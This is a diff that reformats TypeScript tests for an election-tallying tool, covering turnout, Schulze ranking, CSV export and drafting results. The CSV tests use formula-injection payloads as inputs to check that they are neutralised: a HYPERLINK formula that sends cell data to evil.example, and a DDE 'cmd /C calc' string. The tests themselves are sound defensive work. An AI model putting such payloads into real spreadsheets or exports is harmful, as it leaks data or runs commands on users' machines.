@@ -26,17 +26,42 @@ test('turnout compares logins case-insensitively, counts duplicates once, and ke
 test('days are filled from the opening to today within the window, widened by votes outside it', () => {
   const start = new Date('2026-05-01T10:00:00Z');
   const end = new Date('2026-05-04T00:00:00Z');
-  const days = (counts: Array<{ day: string; votes: number }>, now: string) => fillDays(counts, start, end, new Date(now)).map((d) => `${d.day.slice(5)}:${d.votes}`);
+  const days = (counts: Array<{ day: string; votes: number }>, now: string) =>
+    fillDays(counts, start, end, new Date(now)).map((d) => `${d.day.slice(5)}:${d.votes}`);
   assert.deepEqual(days([], '2026-04-30T00:00:00Z'), [], 'nothing before the opening');
   assert.deepEqual(days([], '2026-05-01T10:00:00Z'), ['05-01:0']);
   assert.deepEqual(days([{ day: '2026-05-02', votes: 3 }], '2026-05-02T08:00:00Z'), ['05-01:0', '05-02:3']);
   // After the end: the last day is the one holding end − 1 s (May 3), not May 4.
   assert.deepEqual(days([{ day: '2026-05-03', votes: 1 }], '2026-06-01T00:00:00Z'), ['05-01:0', '05-02:0', '05-03:1']);
   // Votes recorded outside the window (an Elekto clock, a moved window) still show.
-  assert.deepEqual(days([{ day: '2026-04-30', votes: 1 }, { day: '2026-05-05', votes: 2 }], '2026-06-01T00:00:00Z'), ['04-30:1', '05-01:0', '05-02:0', '05-03:0', '05-04:0', '05-05:2']);
+  assert.deepEqual(
+    days(
+      [
+        { day: '2026-04-30', votes: 1 },
+        { day: '2026-05-05', votes: 2 },
+      ],
+      '2026-06-01T00:00:00Z',
+    ),
+    ['04-30:1', '05-01:0', '05-02:0', '05-03:0', '05-04:0', '05-05:2'],
+  );
   assert.deepEqual(days([{ day: 'garbage', votes: 9 }], '2026-05-01T12:00:00Z'), ['05-01:0']);
-  const long = fillDays([{ day: '2020-01-01', votes: 1 }, { day: '2026-05-02', votes: 2 }], start, end, new Date('2026-06-01T00:00:00Z'));
-  assert.deepEqual(long, [{ day: '2020-01-01', votes: 1 }, { day: '2026-05-02', votes: 2 }], 'years apart: only the days with votes');
+  const long = fillDays(
+    [
+      { day: '2020-01-01', votes: 1 },
+      { day: '2026-05-02', votes: 2 },
+    ],
+    start,
+    end,
+    new Date('2026-06-01T00:00:00Z'),
+  );
+  assert.deepEqual(
+    long,
+    [
+      { day: '2020-01-01', votes: 1 },
+      { day: '2026-05-02', votes: 2 },
+    ],
+    'years apart: only the days with votes',
+  );
 });
 
 test('matrix buckets follow the head-to-head margin as a share of the ballots', () => {
@@ -55,7 +80,17 @@ test('CSV cells: quoted only when needed; no opinion written out; ranks as store
   assert.equal(csvCell('say "hi"'), '"say ""hi"""');
   assert.equal(csvCell(' padded'), '" padded"');
   assert.equal(csvHeader(['a', 'b,c']), 'a,"b,c"');
-  assert.equal(csvBallotLine(['a', 'b', 'c', 'd'], [{ candidate: 'c', rank: 1 }, { candidate: 'a', rank: 2 }, { candidate: 'b', rank: NO_OPINION_RANK }]), '2,No opinion,1,No opinion');
+  assert.equal(
+    csvBallotLine(
+      ['a', 'b', 'c', 'd'],
+      [
+        { candidate: 'c', rank: 1 },
+        { candidate: 'a', rank: 2 },
+        { candidate: 'b', rank: NO_OPINION_RANK },
+      ],
+    ),
+    '2,No opinion,1,No opinion',
+  );
 });
 
 /** Cells of a CSV line as a spreadsheet splits them (RFC 4180 quotes). */
@@ -95,9 +130,27 @@ test('CSV cells never start a spreadsheet formula: = + - @ tab CR get an apostro
 });
 
 test('a ballots CSV with formula-like candidate IDs is safe in a spreadsheet and counts back to the same IDs', () => {
-  const ids = ['=HYPERLINK("https://evil.example/?"&A1,"Vote")', '+cmd', '-2+3', '@SUM(1)', '\tTab', "'=quoted", "''+two", 'plain', "it's", 'a,b'];
+  const ids = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Vote")',
+    '+cmd',
+    '-2+3',
+    '@SUM(1)',
+    '\tTab',
+    "'=quoted",
+    "''+two",
+    'plain',
+    "it's",
+    'a,b',
+  ];
   const columns = columnOrder(ids);
-  const csv = [csvHeader(columns), csvBallotLine(columns, columns.map((candidate, i) => ({ candidate, rank: i + 1 })))].join(CSV_EOL) + CSV_EOL;
+  const csv =
+    [
+      csvHeader(columns),
+      csvBallotLine(
+        columns,
+        columns.map((candidate, i) => ({ candidate, rank: i + 1 })),
+      ),
+    ].join(CSV_EOL) + CSV_EOL;
   for (const cell of cellsOf(csv.split(CSV_EOL)[0]!)) assert.doesNotMatch(cell, FORMULA_START, cell);
   const counted = countCsv(csv);
   assert.deepEqual(counted.candidates, columns);
@@ -105,11 +158,11 @@ test('a ballots CSV with formula-like candidate IDs is safe in a spreadsheet and
 });
 
 test('the voters CSV neutralises formulas and quotes what needs it, whatever voters.yaml holds', () => {
-  const csv = votersCsv(turnoutOf(['=cmd|\' /C calc\'!A0', 'ada', '@admin', 'Jane "JD" Doe'], ['ada'], 0));
+  const csv = votersCsv(turnoutOf(["=cmd|' /C calc'!A0", 'ada', '@admin', 'Jane "JD" Doe'], ['ada'], 0));
   const lines = csv.split(CSV_EOL);
   assert.equal(lines[0], 'login,voted');
   for (const line of lines.slice(1, -1)) assert.doesNotMatch(cellsOf(line)[0]!, FORMULA_START, line);
-  assert.ok(lines.includes('"\'=cmd|\' /C calc\'!A0",no'), csv);
+  assert.ok(lines.includes("\"'=cmd|' /C calc'!A0\",no"), csv);
   assert.ok(lines.includes('"\'@admin",no'), csv);
   assert.ok(lines.includes('"Jane ""JD"" Doe",no'), csv);
   assert.ok(lines.includes('ada,yes'), csv);
@@ -129,7 +182,20 @@ test('the shuffle is a permutation, and every position is reachable', () => {
 });
 
 test('ordinals, percentages, dates and axis tops as the pages write them', () => {
-  assert.deepEqual([1, 2, 3, 4, 11, 12, 13, 21, 22, 23, 101, 111].map(ordinal), ['1st', '2nd', '3rd', '4th', '11th', '12th', '13th', '21st', '22nd', '23rd', '101st', '111th']);
+  assert.deepEqual([1, 2, 3, 4, 11, 12, 13, 21, 22, 23, 101, 111].map(ordinal), [
+    '1st',
+    '2nd',
+    '3rd',
+    '4th',
+    '11th',
+    '12th',
+    '13th',
+    '21st',
+    '22nd',
+    '23rd',
+    '101st',
+    '111th',
+  ]);
   assert.equal(percent(4, 5), '80%');
   assert.equal(percent(2, 3), '66.7%');
   assert.equal(percent(0, 0), null);
@@ -154,36 +220,52 @@ test('the draft results.md reads like the Kubernetes announcements, with every p
     eligible: 8,
     result,
     abstentions: 1,
-    names: new Map([['a', 'Ada <A>'], ['b', 'Bo'], ['c', 'Cy'], ['d', 'Di']]),
+    names: new Map([
+      ['a', 'Ada <A>'],
+      ['b', 'Bo'],
+      ['c', 'Cy'],
+      ['d', 'Di'],
+    ]),
   });
-  assert.equal(draft, [
-    '<!-- Draft from Scrutin\'s officer page: review it, then commit it as results.md in the election\'s folder. -->',
-    '',
-    '## Steering \\*2026\\*',
-    '',
-    'This election ran from May 1, 2026 to May 15, 2026, for 2 seats.',
-    '',
-    'There were 8 eligible voters. 5 ballots were cast, which is 62.5% participation.',
-    '',
-    '## Winners',
-    '',
-    '- Ada \\<A\\>',
-    '',
-    '**Tie for seat 2:** Bo and Cy are tied. The election officers break the tie by their own rules: <!-- say how, and who won -->',
-    '',
-    '## Ranking',
-    '',
-    '1st: Ada \\<A\\>',
-    '',
-    '2nd: tie between Bo and Cy',
-    '',
-    '4th: Di',
-    '',
-    'Counted with the Schulze method (winning votes): 5 ballots, 1 of which expresses no preference.',
-    '',
-  ].join('\n'));
+  assert.equal(
+    draft,
+    [
+      "<!-- Draft from Scrutin's officer page: review it, then commit it as results.md in the election's folder. -->",
+      '',
+      '## Steering \\*2026\\*',
+      '',
+      'This election ran from May 1, 2026 to May 15, 2026, for 2 seats.',
+      '',
+      'There were 8 eligible voters. 5 ballots were cast, which is 62.5% participation.',
+      '',
+      '## Winners',
+      '',
+      '- Ada \\<A\\>',
+      '',
+      '**Tie for seat 2:** Bo and Cy are tied. The election officers break the tie by their own rules: <!-- say how, and who won -->',
+      '',
+      '## Ranking',
+      '',
+      '1st: Ada \\<A\\>',
+      '',
+      '2nd: tie between Bo and Cy',
+      '',
+      '4th: Di',
+      '',
+      'Counted with the Schulze method (winning votes): 5 ballots, 1 of which expresses no preference.',
+      '',
+    ].join('\n'),
+  );
 
-  const single = resultsDraft({ name: 'GB', start: new Date('2021-01-11T00:00:00Z'), end: new Date('2021-01-13T00:00:00Z'), eligible: 7, result: tallyBallots(['p', 'q'], [{ p: 1, q: 2 }], 1), abstentions: 0, names: new Map([['p', 'Paris Pittman']]) });
+  const single = resultsDraft({
+    name: 'GB',
+    start: new Date('2021-01-11T00:00:00Z'),
+    end: new Date('2021-01-13T00:00:00Z'),
+    eligible: 7,
+    result: tallyBallots(['p', 'q'], [{ p: 1, q: 2 }], 1),
+    abstentions: 0,
+    names: new Map([['p', 'Paris Pittman']]),
+  });
   assert.match(single, /^## Winner: Paris Pittman$/m);
   assert.match(single, /^There were 7 eligible voters\. 1 ballot was cast, which is 14\.3% participation\.$/m);
   assert.match(single, /^2nd: q$/m, 'a candidate without a name is shown by ID');
